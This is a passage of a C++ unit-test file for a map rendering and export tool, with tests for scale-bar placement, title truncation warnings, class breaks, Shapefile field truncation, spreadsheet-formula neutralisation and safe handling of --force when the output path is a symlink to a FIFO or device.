    CHECK(without.exit_code == 0);
    CHECK_THAT(without.err, !Contains("is clear for"));
    // Figures with room find a clear place for both, and say nothing; at 560x420 the scale bar lay
    // over the Shandong Peninsula and Shanghai's hub before it looked along the left and top edges.
    for (std::string args : {"--choropleth province-coverage --size 800x600", "--size 800x600",
                             "--lang zh --industry next_gen_it --size 560x420", "--size 1600x1200"}) {
        CAPTURE(args);
        auto fits = run_cli("render " + args + " --renderer cairo -o " + tmp.path("fits.png") + " --force");
        CHECK(fits.exit_code == 0);
        CHECK_THAT(fits.err, !Contains("is clear for"));
    }
}

TEST_CASE("a title cut to three lines is drawn and warned about, by either renderer", "[outputs]") {
    // The figure showed "..." and render said nothing: the user's words were silently shortened.
    TempFolder tmp;
    std::string title;
    for (int i = 0; i < 6; ++i) title += "Strategic emerging industries and the regions the plan names ";
    std::vector<std::string> renderers = {"cairo"};
    if (ATLAS_HAVE_VIEWER) renderers.push_back("gl");  // the build without OpenGL has only cairo
    for (const std::string& renderer : renderers) {
        CAPTURE(renderer);
        auto cut = run_cli("render --renderer " + renderer + " --size 600x400 --title '" + title + "' --force -o " +
                           tmp.path("cut.png"));
        CHECK(cut.exit_code == 0);
        CHECK_THAT(cut.err, Contains("cut.png: the title is cut to three lines on this figure"));
        CHECK_THAT(cut.err, !Contains("the credit is cut"));
    }
    auto svg = run_cli("render --size 600x400 --title 'Short' -o " + tmp.path("short.svg"));
    CHECK(svg.exit_code == 0);
    CHECK_THAT(svg.err, !Contains("is cut to three lines"));
}

TEST_CASE("equal intervals over values spanning more than a double's range still label every class", "[outputs]") {
    Classes c = classify({1e308, -1e308, 0, 5}, 4, ClassMethod::EqualInterval);
    for (double b : c.breaks) CHECK(std::isfinite(b));
    for (const std::string& label : format_breaks(c.breaks)) CHECK(label.find("inf") == std::string::npos);
}

TEST_CASE("degenerate export options: a negative precision is refused, formulas behind spaces neutralised",
          "[outputs]") {
    TempFolder tmp;
    auto negative = run_cli("export --layer hubs --precision -1 -o " + tmp.path("h.geojson"));
    CHECK(negative.exit_code == 2);
    CHECK_THAT(negative.err, Contains("--precision must be 0 to 15, not -1"));
    CHECK(neutralise_formula("   =pad") == "'   =pad");
    CHECK(neutralise_formula("  -3.5") == "  -3.5");
}

// The plan's quotes were cut to 254 bytes in a Shapefile without a word; the regions layer also had
// no field for the sources `show` lists.
TEST_CASE("a Shapefile export says which fields it cut to 254 bytes", "[outputs]") {
    TempFolder tmp;
    auto r = run_cli("export --layer regions -o " + tmp.path("r.shp"));
    REQUIRE(r.exit_code == 0);
    CHECK_THAT(r.err, Contains("regions values longer than a Shapefile's 254 bytes cut in fields "));
    CHECK_THAT(r.err, Contains("quote"));
    CHECK_THAT(r.err, Contains("(a GeoPackage keeps them whole)"));
    auto g = run_cli("export --layer regions -o " + tmp.path("r.gpkg"));
    REQUIRE(g.exit_code == 0);
    CHECK(g.err.find("254 bytes") == std::string::npos);
}

TEST_CASE("export and render with --force never replace a link to standard output, a FIFO or a device with a file",
          "[cli][output]") {
    // As root, export -o /dev/stdout --force made /dev/stdout (a link to /proc/self/fd/1) a plain file
    // for every process; a link to a FIFO became a file too.
    test::TempFolder tmp;
    REQUIRE(::mkfifo(tmp.path("fifo").c_str(), 0600) == 0);
    std::filesystem::create_symlink("/proc/self/fd/1", tmp.path("out.geojson"));
    std::filesystem::create_symlink(tmp.path("fifo"), tmp.path("fifo.geojson"));
    std::filesystem::create_symlink("/dev/null", tmp.path("null.png"));
    auto out = test::run_cli("export --layer hubs --force -o " + tmp.path("out.geojson"));
    CHECK(out.exit_code == 4);
    CHECK_THAT(out.err, Catch::Contains("out.geojson: is a link to an open file of a process (/proc/self/fd/1)"));
    auto fifo = test::run_cli("export --layer hubs --force -o " + tmp.path("fifo.geojson"));
    CHECK(fifo.exit_code == 4);
    CHECK_THAT(fifo.err, Catch::Contains("fifo.geojson: is a link to a FIFO, not a file"));
    auto device = test::run_cli("render --renderer cairo --size 200x150 --force -o " + tmp.path("null.png"));
    CHECK(device.exit_code == 4);
    CHECK_THAT(device.err, Catch::Contains("null.png: is a link to a device, not a file"));
    for (const char* name : {"out.geojson", "fifo.geojson", "null.png"})
        CHECK(std::filesystem::is_symlink(tmp.path(name)));
    // A link to a file is replaced, as a file is.
    std::ofstream(tmp.path("kept.geojson")) << "old";
    std::filesystem::create_symlink(tmp.path("kept.geojson"), tmp.path("link.geojson"));
    CHECK(test::run_cli("export --layer hubs --force -o " + tmp.path("link.geojson")).exit_code == 0);
}
